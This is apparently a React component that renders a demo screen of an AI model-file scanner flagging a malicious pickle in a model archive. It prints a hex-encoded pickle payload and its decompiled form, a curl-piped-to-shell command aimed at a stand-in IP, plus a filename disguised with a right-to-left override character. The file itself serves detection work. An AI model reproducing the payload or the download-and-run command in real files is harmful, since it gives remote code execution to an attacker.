/** One finding of a scan: tree, evidence, owner. */
import { Download, RefreshCw, ShieldAlert, Undo2 } from 'lucide-react';
import { useState } from 'react';
import { Person } from '../../src/ui/avatar.tsx';
import { Button } from '../../src/ui/button.tsx';
import { DueBar } from '../../src/ui/due-bar.tsx';
import { Evidence } from '../../src/ui/evidence.tsx';
import { FieldList } from '../../src/ui/field-list.tsx';
import { type FileFacts, FileTree } from '../../src/ui/file-tree.tsx';
import { bytesFromHex } from '../../src/ui/hex.ts';
import { CodeBlock } from '../../src/ui/inert-text.tsx';
import { Mark } from '../../src/ui/mark.tsx';
import { Screen } from '../../src/ui/screen.tsx';
import { Panes, Section } from '../../src/ui/section.tsx';
import { SeverityChip, SeverityShape, VerdictChip, VerdictShape } from '../../src/ui/severity.tsx';
import { Shape } from '../../src/ui/shape.tsx';
import type { TreeNode } from '../../src/ui/tree.ts';

const node = (
  id: string,
  shape: FileFacts['shape'],
  note?: string,
  children?: TreeNode<FileFacts>[],
  isContainer = false,
): TreeNode<FileFacts> => ({ id, name: id.split('/').at(-1) ?? id, data: { shape, note, isContainer }, children });
const clean = <VerdictShape verdict="clean" size={13} />;
const bad = <SeverityShape severity="critical" size={13} />;
const nodes: TreeNode<FileFacts>[] = [
  node(
    'claims-triage-4.2.tar.gz',
    bad,
    undefined,
    [
      node('config.json', clean),
      node('model', bad, undefined, [
        node('model/head.pkl', bad, '1 critical'),
        node('model/body.safetensors', clean),
        node('model/vocab.txt', clean),
      ]),
      node('tokenizer', <SeverityShape severity="medium" size={13} />, undefined, [
        node('tokenizer/chat_template\u202e2j.', <SeverityShape severity="medium" size={13} />, '1 medium'),
        node('tokenizer/tokenizer.json', clean),
      ]),
      node('onnx', <SeverityShape severity="unknown" size={13} />, undefined, [
        node('onnx/triage.onnx', clean),
        node('onnx/triage.onnx.data', <SeverityShape severity="unknown" size={13} />, 'unread'),
      ]),
      node('notebooks', <SeverityShape severity="high" size={13} />, '1 high', [
        node('notebooks/intake.ipynb', <SeverityShape severity="high" size={13} />),
      ]),
      node('requirements.txt', <SeverityShape severity="low" size={13} />, '2 low'),
      node('README.md', clean),
    ],
    true,
  ),
];
const bytes = bytesFromHex(
  '8002 63706f7369780a73797374656d0a 7100 582100000 06375726c202d7320687474703a2f2f3230332e302e3131332e372f69207c207368 710185 710252 7103 7d7104580700000077656967687473710505 63746f7263682e5f7574696c730a5f72656275696c645f74656e736f725f76320a',
);

export function ScanScene() {
  const [selected, select] = useState('model/head.pkl');
  return (
    <Screen
      title="claims-triage-4.2.tar.gz"
      shortTitle="head.pkl"
      path={[
        { label: 'Model scanner', to: '/model-scanner' },
        { label: 'Scan 8841', to: '/model-scanner' },
      ]}
      facts={
        <>
          <VerdictChip verdict="malicious" />
          <span>41 of 42 files read</span>
          <span className="inline-flex items-center gap-1.5">
            <Shape name="unknown" tone="unknown" size={13} /> <b className="font-name">1 file unread</b>
          </span>
          <span>1.8 GB</span>
          <span>2.3 s</span>
          <span>Yesterday 18:10 UTC, 15 h ago</span>
        </>
      }
      actions={
        <>
          <Button icon={Download}>Export</Button>
          <Button icon={RefreshCw}>Scan again</Button>
        </>
      }
    >
      <Panes tracks="264px minmax(0,1fr) 272px">
        <div className="bg-canvas py-3 [--cut:var(--canvas)]">
          <h2 className="px-4 pb-2 font-strong">Files</h2>
          <FileTree label="Files" nodes={nodes} selectedId={selected} onSelect={select} />
        </div>
        <div>
          <div className="border-b border-line px-4 py-4 tablet:px-6">
            <p className="flex flex-wrap items-center gap-3">
              <SeverityChip severity="critical" />
              <Mark mark="static" />
              <span className="mono text-code text-ink-2">pickle-shell-call</span>
              <span className="ml-auto text-ink-2">Finding 1 of 5</span>
            </p>
            <h2 className="pt-2 pb-1 text-title font-title">Opening head.pkl starts a shell command</h2>
            <p className="max-w-[72ch] pb-3 text-read text-ink-2">
              Any program that loads this file runs the line below with its own rights. No weight is needed for it to happen; reading the
              file is enough.
            </p>
            <CodeBlock label="The call" tone="critical" text={'posix.system("curl -s http://203.0.113.7/i | sh\u202e")'} />
          </div>
          <Section title="Evidence">
            <Evidence
              source="head.pkl, 412 bytes"
              facts={{
                bytes: {
                  data: bytes,
                  start: 0,
                  ranges: [
                    { offset: 2, length: 14, meaning: 'GLOBAL names posix.system' },
                    { offset: 18, length: 38, meaning: 'BINUNICODE holds the command' },
                    { offset: 61, length: 1, meaning: 'REDUCE calls A with B' },
                  ],
                },
                opcodes: [
                  { offset: 2, name: 'GLOBAL', argument: 'posix system', marked: true },
                  { offset: 18, name: 'BINUNICODE', argument: 'curl -s http://203.0.113.7/i | sh' },
                  { offset: 61, name: 'REDUCE', argument: null },
                ],
                decompiled: 'import posix\nposix.system("curl -s http://203.0.113.7/i | sh")',
              }}
              foot={<span>SHA-256 9f3c20de…b41a71, rules 2026.19</span>}
            />
          </Section>
        </div>
        <div>
          <Section inset="rail" title="Who owns it">
            <Person name="Tobias Lindqvist" />
            <p className="py-1 text-ink-2">Owner of claims-triage. Due today 18:10.</p>
            <DueBar due={Date.now() + 8.4 * 3_600_000} start={Date.now() - 15 * 3_600_000} width="100%" />
          </Section>
          <Section inset="rail" title="Next action">
            <p className="pb-2 text-ink-2">Roll back to 4.1, then build 4.3 without pickle.</p>
            <div className="grid gap-2">
              <Button wide kind="primary" icon={Undo2}>
                Roll back to 4.1
              </Button>
              <Button wide icon={ShieldAlert}>
                Quarantine the file
              </Button>
              <Button wide kind="quiet">
                Not a problem, say why
              </Button>
            </div>
          </Section>
          <Section inset="rail" title="Facts">
            <FieldList
              fields={[
                { label: 'Effect', value: 'exec, proved' },
                { label: 'Where', value: <span className="mono text-code">model/head.pkl@0x3d</span> },
                { label: 'SHA-256', value: <span className="mono text-code">9f3c20de…b41a71</span> },
                { label: 'Maps to', value: 'CWE-502, AML.T0010' },
                { label: 'Signed by', value: null, reason: 'no signature found' },
              ]}
            />
          </Section>
          <Section inset="rail" title="In CI">
            <CodeBlock label="Command" text={'ai-spm scan \\\n  claims-triage-4.2.tar.gz\nexit 2: malicious'} />
          </Section>
        </div>
      </Panes>
    </Screen>
  );
}
